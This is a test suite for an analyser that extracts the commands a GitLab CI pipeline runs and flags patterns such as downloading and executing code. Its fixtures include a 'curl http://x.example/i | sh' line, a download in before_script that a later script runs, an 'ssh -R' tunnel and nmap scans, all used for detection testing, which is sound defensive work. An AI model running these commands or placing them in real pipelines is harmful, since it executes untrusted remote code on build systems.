import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { mutations, survives } from "./mutations.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

const pipeline = `variables:
  HOST: u@h
  TARGET:
    value: x-$HOST
    description: what to reach
default:
  before_script:
    - cd sub
build:
  image: alpine
  script:
    - ssh -R 1:2:3 $HOST
    - |
      nmap h
      nmap i
    - echo "$TARGET" $[[ inputs.env | expand_vars ]]
  after_script: "curl http://x.example/i | sh"
`;

describe("what a GitLab pipeline runs", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = (text: string) => canonical(analyser, "yaml-gitlab-ci", text);
  const spans = (text: string) => commandSpans(analyser, "yaml-gitlab-ci", text);
  const problems = async (text: string) =>
    (await analyser.analyse({ path: ".gitlab-ci.yml", text }, 5_000)).problems.map(({ code, weight, range }) => [
      code,
      weight,
      range?.start.line,
    ]);

  it("is the jobs' scripts, with the constants of variables", async () => {
    assert.deepEqual(await lines(pipeline), [
      "cd -- sub",
      "ssh -R=1:2:3 -- u@h",
      "nmap -- h",
      "nmap -- i",
      'echo -- x-u@h "$env"',
      "curl -- http://x.example/i | sh",
      ":fetch http://x.example/i | :run sh",
    ]);
  });

  it("is marked where it stands", async () => {
    assert.deepEqual((await spans(pipeline)).slice(0, 7), [
      "cd sub",
      "ssh -R 1:2:3 $HOST",
      "nmap h",
      "nmap i",
      'echo "$TARGET" $[[ inputs.env | expand_vars ]]',
      "curl http://x.example/i",
      "sh",
    ]);
  });

  it("is told by the key that it stands under", async () => {
    assert.deepEqual(
      [...new Set((await viaOf(analyser, "yaml-gitlab-ci", pipeline)).map(([host]) => host))],
      ["gitlab-ci:before_script", "gitlab-ci:script", "gitlab-ci:after_script"],
    );
  });

  it("is one program for each job: what before_script fetches, script runs", async () => {
    const text = "a:\n  before_script:\n    - curl -o f http://x.example/i\n  script: [sh f]\n";
    assert.ok((await lines(text)).includes(":fetch http://x.example/i | :run sh"));
    const apart = "a:\n  script:\n    - curl -o f http://x.example/i\nb:\n  script: [sh f]\n";
    assert.ok(!(await lines(apart)).includes(":fetch http://x.example/i | :run sh"));
  });

  const forms: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["a single text", "a: { script: nmap h }\n", "nmap -- h"],
    ["lists in lists", "a:\n  script:\n    - nmap h\n    - - nmap i\n      - [nmap j]\n", "nmap -- h", "nmap -- i", "nmap -- j"],
    ["an anchor", ".x: &x\n  - nmap h\na:\n  script:\n    - *x\n    - nmap i\n", "nmap -- h", "nmap -- i"],
    ["a merged map", ".x: &x\n  script: [nmap h]\na:\n  <<: *x\n", "nmap -- h"],
    ["!reference", ".x:\n  script: [nmap h]\na:\n  script:\n    - !reference [.x, script]\n    - nmap i\n", "nmap -- h", "nmap -- i"],
    ["extends", ".y:\n  script: [nmap h]\n.x:\n  extends: .y\na:\n  extends: .x\n  variables: {}\n", "nmap -- h"],
    [
      "several that are extended, of which the last counts",
      ".x: { script: [a] }\n.y: { script: [b] }\nz: { extends: [.x, .y] }\n",
      "b",
      "a",
    ],
    ["a template that nothing uses", ".x:\n  script: [nmap h]\n", "nmap -- h"],
    ["a global before_script", "before_script: [nmap h]\na:\n  script: [b]\n", "nmap -- h", "b"],
    ["a global before_script that a job takes back", "before_script: [nmap h]\na:\n  before_script: []\n  script: [b]\n", "b", "nmap -- h"],
    ["hooks", "a:\n  hooks:\n    pre_get_sources_script:\n      - nmap h\n  script: [b]\n", "b", "nmap -- h"],
    ["steps", "a:\n  run:\n    - name: s\n      script: nmap h\n", "nmap -- h"],
    ["the document behind the inputs", "spec:\n  inputs:\n    x:\n---\na:\n  script: [nmap h]\n", "nmap -- h"],
    [
      "what an image and a service are started with",
      "a:\n  image: { name: x, entrypoint: [sh, -c, nmap h] }\n  services:\n    - name: y\n      entrypoint: [nmap]\n      command: [i]\n    - name: z\n      command: [--flag]\n",
      "nmap -- h",
      "nmap -- i",
    ],
    [
      "another interpreter",
      'a:\n  script:\n    - |\n      #!/usr/bin/env python3\n      import os\n      os.system("nmap h")\n',
      "nmap -- h",
    ],
    ["a job's own variables", "variables: { A: a }\nb:\n  variables: { A: c, B: $A$$ }\n  script: [x $A $B]\n", "x -- c 'c$'"],
  ];
  for (const [title, text, ...expected] of forms) it(`is read through ${title}`, async () => assert.deepEqual(await lines(text), expected));

  it("is nothing where jobs run nothing", async () => {
    assert.deepEqual(await lines("stages: [nmap h]\nvariables: { A: nmap h }\na:\n  trigger: x/y\n  rules: [{ if: nmap }]\n"), []);
  });

  it("says which entry of a script is no text, and reads the rest", async () => {
    const text = "a:\n  script:\n    - echo: nmap h\n    - nmap i\n";
    assert.deepEqual(await problems(text), [["unparsed", "blocking", 2]]);
    assert.deepEqual(await lines(text), ["nmap -- i"]);
  });

  it("says where the YAML cannot be parsed, and reads the rest", async () => {
    const text = 'a:\n  script: [nmap h]\nb: "x" y\n';
    assert.deepEqual(await problems(text), [["unparsed", "blocking", 2]]);
    assert.deepEqual(await lines(text), ["nmap -- h"]);
  });

  it("says that a text is nested too deeply", async () => {
    const found = await problems(`a: ${"[".repeat(30_000)}\n`);
    assert.ok(found.some(([code, weight]) => code === "too-deep" && weight === "blocking"));
  });

  it("does not read an inherited script without end", async () => {
    const jobs = Array.from({ length: 900 }, (_, i) => `j${i}:\n  script: [a]\n`).join("");
    const text = `before_script:\n  - echo ${"x".repeat(20_000)}\n${jobs}`;
    assert.ok((await problems(text)).some(([code, weight]) => code === "too-large" && weight === "blocking"));
  });

  for (const path of [
    ".gitlab-ci.yml",
    "x/.gitlab-ci.yaml",
    "ci/build.gitlab-ci.yml",
    ".gitlab/ci/test.yml",
    ".gitlab-ci/a/b.yml",
    "x/.gitlab-ci.test.yml",
  ]) {
    it(`may stand in ${path}`, () => assert.equal(analyser.languageOf(path, ""), "yaml-gitlab-ci"));
  }

  it("tells of a job whose failure counts for nothing, its own or inherited, unless it waits for a person", async () => {
    const jobs = {
      plain: "a:\n  script: [pytest]\n  allow_failure: true\n",
      inherited: ".s: { allow_failure: true }\na:\n  extends: .s\n  script: [pytest]\n",
      takenBack: ".s: { allow_failure: true }\na:\n  extends: .s\n  allow_failure: false\n  script: [pytest]\n",
      byHand: "a:\n  script: [pytest]\n  when: manual\n  allow_failure: true\n",
      someCodes: "a:\n  script: [pytest]\n  allow_failure: { exit_codes: [3] }\n",
    };
    const found = Object.entries(jobs).map(async ([name, text]) => [name, (await viaOf(analyser, "yaml-gitlab-ci", text))[0]?.[0]]);
    assert.deepEqual(Object.fromEntries(await Promise.all(found)), {
      plain: "gitlab-ci:allow-failure",
      inherited: "gitlab-ci:allow-failure",
      takenBack: "gitlab-ci:script",
      byHand: "gitlab-ci:script",
      someCodes: "gitlab-ci:script",
    });
  });

  it("survives what is nearly right", async () => {
    await survives(
      analyser,
      "yaml-gitlab-ci",
      mutations(pipeline, ["&a ", "*a ", "- ", ": ", "<<: *a\n", "|\n", '"', "'", "!reference [build, script]", "\t", "{", "["], 150),
    );
  });
}).timeout(60_000);
